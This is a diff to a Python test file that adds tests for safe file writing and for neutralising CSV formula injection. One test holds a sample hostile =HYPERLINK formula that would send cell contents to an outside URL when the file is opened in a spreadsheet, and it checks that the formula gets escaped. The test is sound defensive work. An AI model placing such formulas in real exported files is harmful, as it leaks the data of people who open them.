@@ -22,7 +22,9 @@ def test_io_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
         Path(tmp).write_text("half")
         raise OSError("disk full")
 
-    with pytest.raises(OSError, match="disk full"):
+    from quickscan.errors import OutputError
+
+    with pytest.raises(OutputError, match="tables.csv: cannot write: disk full"):
         atomic_write(target, broken)
     assert target.read_text() == "old"
     assert [p.name for p in tmp_path.iterdir()] == ["tables.csv"]
@@ -122,3 +124,39 @@ def test_io_yaml_in_latin1_names_file_line_and_what_to_do(tmp_path):
     path.write_bytes("id: x\nname: Cliënt\n".encode("latin-1"))
     with pytest.raises(TemplateError, match=r"t.yaml: line 2: not UTF-8 text \(byte 15.*save the file as UTF-8"):
         load_template(path)
+
+
+# -- CSV a spreadsheet does not evaluate -------------------------------------------------------
+
+from hypothesis import given, settings  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\rab\"\n,; ")), min_size=1, max_size=5))
+def test_io_csv_round_trip_is_exact_and_nothing_starts_active(tmp_path_factory, texts):
+    import pandas as pd
+
+    from quickscan._io import read_csv, write_csv
+
+    path = tmp_path_factory.mktemp("csv") / "c.csv"
+    write_csv(pd.DataFrame({"evidence": texts, "n": range(len(texts))}), path, index=False)
+    back = read_csv(path)
+    assert back["evidence"].tolist() == texts
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        for row in list(csv.reader(fh))[1:]:
+            assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_io_csv_formula_injection_in_codings_csv_is_neutralised(tmp_path):
+    """An answer such as =HYPERLINK("http://...?d="&A1, "...") must not run when codings.csv is opened."""
+    import pandas as pd
+
+    from quickscan.study import _write_csv
+
+    evil = '=HYPERLINK("http://example.org/?d="&A1, "klik")'
+    codings = pd.DataFrame({"pilot_id": ["p"], "evidence": [evil], "start": [3]})
+    text = _write_csv(codings, tmp_path / "codings.csv").read_text("utf-8")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
